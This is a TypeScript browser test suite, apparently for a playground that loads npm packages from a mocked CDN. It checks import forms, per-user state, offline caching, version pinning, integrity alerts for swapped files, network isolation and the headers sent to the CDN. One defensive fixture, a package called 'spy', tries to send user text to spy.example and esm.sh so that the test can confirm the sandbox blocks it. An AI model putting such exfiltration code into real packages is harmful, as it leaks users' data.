// Packages from npm: imported as in any module, kept in the browser, and the same as when they were first used.

import { expect, loseFiles, test } from "../fixtures/cdn-test.ts";

const shout = `export default (text) => text.toUpperCase() + "!";
export const mark = "!";
export let count = 0;
export function add() { count += 1; return count; }`;

function program(imports: string, body: string, name = "say"): string {
  return `import * as gr from "interstate";
${imports}
function ${name}(text: string) {
  ${body}
}
export default gr.Interface({ fn: ${name}, inputs: gr.Textbox({ label: "Text" }), outputs: gr.Textbox({ label: "Said" }) });
`;
}

const simple = program('import shout from "npm:shout@^1";', "return shout(text);");

test("packages are imported by default, by name, as a whole, by file, and for what they do", async ({ open, cdn }) => {
  cdn.publish("shout", "1.2.3", shout, { ranges: ["^1"] });
  cdn.publish("@some/tools", "2.0.0", "export const tail = '?'", { path: "/deep/tail.js" });
  cdn.publish("effect", "0.1.0", "globalThis.effect = 'done'");
  const imports = `import loud, { mark as sign, count, add } from "npm:shout@^1";
import * as all from "npm:shout@^1";
import { tail } from "npm:@some/tools@2.0.0/deep/tail.js";
import "npm:effect";
export { mark } from "npm:shout@^1";`;
  const body =
    "add(); return [loud(text), sign, all.mark, tail, count, all.count, (globalThis as any).effect].join(' ');";
  const tab = await open(program(imports, body));
  await tab.user.send({ Text: "hi" });
  await tab.user.shows("Said", "HI! ! ! ? 1 1 done");
  // What a package keeps is this user's own, and loaded once.
  await tab.user.send({ Text: "ho" });
  await tab.user.shows("Said", "HO! ! ! ? 2 2 done");
  await tab.toolbar("Add user").click();
  await tab.userNumber(2).send({ Text: "you" });
  await tab.userNumber(2).shows("Said", "YOU! ! ! ? 1 1 done");
});

test("what a package makes lives beside state, and state takes what is data of it", async ({ open, cdn }) => {
  cdn.publish(
    "made",
    "1.0.0",
    "export class Box { n = 7 }\nexport const list = () => [3, 1, 2];\nexport const sort = (l) => l.sort();",
  );
  const tab = await open(
    program(
      'import { Box, list, sort } from "npm:made";\nconst box = new Box();\nconst numbers: number[] = list();',
      "sort(numbers); numbers.push(box.n); return numbers.join();",
    ),
    { view: "split" },
  );
  await tab.user.send({ Text: "" });
  await tab.user.shows("Said", "1,2,3,7");
  await tab.state.shows("Global state", "numbers", "[1, 2, 3, 7]");
  await tab.state.shows("Loaded once", "box", "Box");
  await tab.state.resetAll();
  await tab.state.shows("Global state", "numbers", "[3, 1, 2]");
});

test("on reload and in a new tab, nobody is asked again, and it works with the CDN gone", async ({
  open,
  cdn,
  expectErrors,
}) => {
  expectErrors(/Failed to load resource/);
  cdn.publish("shout", "1.2.3", shout, { ranges: ["^1"] });
  const tab = await open(simple);
  expect(cdn.requests.length).toBeGreaterThan(0);
  cdn.requests.length = 0;
  cdn.isUp = false;
  await tab.refresh();
  await tab.user.send({ Text: "again" });
  await tab.user.shows("Said", "AGAIN!");
  const other = await open(simple.replace("return shout(text)", "return shout(text + '?')"));
  await other.user.send({ Text: "what" });
  await other.user.shows("Said", "WHAT?!");
  // Another playground's range is asked for, and nobody answers; what was used last under that name is there.
  expect(cdn.requests).toEqual(["/shout@%5E1?target=es2022&bundle"]);
});

test("a range stays the version that it was when the playground first used it", async ({ open, cdn }) => {
  cdn.publish("shout", "1.2.3", shout, { ranges: ["^1"] });
  const tab = await open(simple);
  cdn.publish("shout", "1.3.0", "export default (text) => text + ' new'", { ranges: ["^1"] });
  await tab.refresh();
  await tab.user.send({ Text: "hi" });
  await tab.user.shows("Said", "HI!");
  await loseFiles(tab.page);
  await tab.refresh();
  await tab.user.send({ Text: "ho" });
  await tab.user.shows("Said", "HO!");
});

test("other files than those used first are refused where they are imported, until somebody takes them", async ({
  open,
  cdn,
}) => {
  cdn.publish("shout", "1.2.3", shout, { ranges: ["^1"] });
  const tab = await open(simple, { view: "split" });
  await tab.editor.ready();
  await loseFiles(tab.page);
  cdn.files.set("/shout@1.2.3/es2022/index.bundle.mjs", { text: "export default (text) => 'stolen ' + text" });
  await tab.page.reload();
  const alert = tab.app.getByRole("alert");
  await expect(alert).toContainText("is not what it sent when this playground first used it");
  await expect(tab.code.getByRole("button", { name: /^Line 2: .*npm:shout/ })).toBeVisible();
  await alert.getByRole("button", { name: "Line 2" }).click();
  await alert.getByRole("button", { name: "Use the new files" }).click();
  await expect(alert).toBeHidden();
  await tab.ready();
  await tab.user.send({ Text: "hi" });
  await tab.user.shows("Said", "stolen hi");
  await tab.refresh();
  await expect(alert).toBeHidden();
});

test("a package reaches nobody: neither the CDN nor what it could send to it", async ({ open, cdn, expectErrors }) => {
  expectErrors(/Content Security Policy/, /Failed to fetch/);
  cdn.publish(
    "spy",
    "1.0.0",
    `export default async (text) => {
  const tries = [() => fetch("https://esm.sh/?" + text), () => import("https://esm.sh/" + text), () => fetch("https://spy.example/?" + text)];
  return (await Promise.all(tries.map((attempt) => attempt().then(() => "out", () => "refused")))).join();
}`,
  );
  const tab = await open(program('import spy from "npm:spy";', "return spy(text);"));
  const before = [...cdn.requests];
  await tab.user.send({ Text: "secret" });
  await tab.user.shows("Said", "refused,refused,refused");
  expect(cdn.requests).toEqual(before);
});

test("nothing but the names of packages goes to the CDN", async ({ context, open, cdn }) => {
  cdn.publish("shout", "1.2.3", shout, { ranges: ["^1"] });
  const headers: Record<string, string>[] = [];
  context.on("request", (request) => {
    if (request.url().startsWith("https://esm.sh/")) headers.push(request.headers());
  });
  await open(simple);
  expect(headers.length).toBeGreaterThan(0);
  for (const each of headers) {
    expect(each["referer"]).toBeUndefined();
    expect(each["cookie"]).toBeUndefined();
  }
  expect(
    cdn.requests.every((path) =>
      /^\/shout(@[\w.%^]+)?(\/es2022\/index\.bundle\.mjs|\?target=es2022&bundle)$/.test(path),
    ),
  ).toBe(true);
});
